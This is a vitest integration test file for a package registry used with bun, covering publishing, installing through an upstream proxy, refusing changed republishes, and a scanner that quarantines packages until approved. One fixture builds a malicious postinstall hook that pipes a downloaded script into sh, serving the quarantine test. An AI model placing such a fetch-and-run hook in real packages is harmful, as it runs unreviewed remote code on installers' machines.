import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { digestsOf } from "../support/tarball.ts";
import { tarballPath } from "../support/upstream.ts";
import { installed, isInstalled, startWorld, type World } from "./client.ts";

const timeout = 60_000;

describe("bun as a client", { timeout }, () => {
  test("publishes and installs, and asks the upstream once", async () => {
    await using world = await startWorld();
    const { registry, upstream } = world;
    await world.cli("login");
    const bytes = upstream.add("leaf", "1.4.2", { "index.js": "module.exports = 'leaf';\n" });
    const files = { "index.js": "module.exports = 'tool';\n" };
    const manifest = { name: "@acme/tool", version: "1.0.0", dependencies: { leaf: "^1.0.0" } };

    const published = await world.bun(["publish"], world.project(manifest, files));
    expect(published).toMatchObject({ code: 0 });
    expect(published.stdout).toContain("+ @acme/tool@1.0.0");

    // From the user's .npmrc, from the project's bunfig.toml, and from the command line.
    const dependencies = { "@acme/tool": "^1.0.0" };
    const bunfig = `[install]\nregistry = "${registry.url}/"\n`;
    for (const project of [
      world.project({ dependencies }),
      world.project({ dependencies }, { "bunfig.toml": bunfig }),
    ]) {
      world.emptyClientCache();
      expect(await world.bun(["install"], project)).toMatchObject({ code: 0 });
      expect(installed(project, "@acme/tool/index.js").toString()).toBe(files["index.js"]);
      expect(installed(project, "leaf/index.js").toString()).toBe("module.exports = 'leaf';\n");
      expect(lockOf(project)).toContain(digestsOf(bytes).integrity);
    }
    expect(upstream.seen(tarballPath("leaf", "1.4.2"))).toHaveLength(1);

    const project = world.project({ dependencies });
    expect(await world.bun(["install"], project)).toMatchObject({ code: 0 });
    world.emptyClientCache();
    const frozen = ["install", "--frozen-lockfile", "--registry", `${registry.url}/`];
    expect(await world.bun(frozen, project)).toMatchObject({ code: 0 });
  });

  test("may repeat a publish of the same bytes, but not replace them", async () => {
    await using world = await startWorld();
    await world.cli("login");
    const manifest = { name: "@acme/tool", version: "1.0.0" };
    const folder = world.project(manifest, { "index.js": "1;\n" });
    expect(await world.bun(["publish"], folder)).toMatchObject({ code: 0 });
    expect(await world.bun(["publish"], folder)).toMatchObject({ code: 0 });

    const other = await world.bun(["publish"], world.project(manifest, { "index.js": "2;\n" }));
    expect(other.code).toBe(1);
    expect(other.stderr).toContain("403");
    expect(other.stderr).toContain("@acme/tool@1.0.0 is already published");
  });

  test("is refused what the scanner holds until it is approved", async () => {
    await using world = await startWorld();
    world.upstream.add("setup-tool", "1.0.0", {}, { manifest: hostile(world) });
    const project = world.project({ dependencies: { "setup-tool": "1.0.0" } });

    const held = await world.bun(["install"], project);
    expect(held.code).toBe(1);
    expect(held.stderr).toContain("403");
    expect(isInstalled(project, "setup-tool")).toBe(false);

    await world.cli("quarantine", "approve", "setup-tool@1.0.0", "--reason", "it is our own");
    world.emptyClientCache();
    expect(await world.bun(["install"], project)).toMatchObject({ code: 0 });
    expect(isInstalled(project, "setup-tool/package.json")).toBe(true);
  });
});

function lockOf(project: string): string {
  return readFileSync(join(project, "bun.lock"), "utf8");
}

/** A hook that downloads a script and runs it; bun runs no hooks of dependencies by itself. */
function hostile(world: World): object {
  return { scripts: { postinstall: `curl -sf ${world.upstream.url}/setup.sh | sh` } };
}
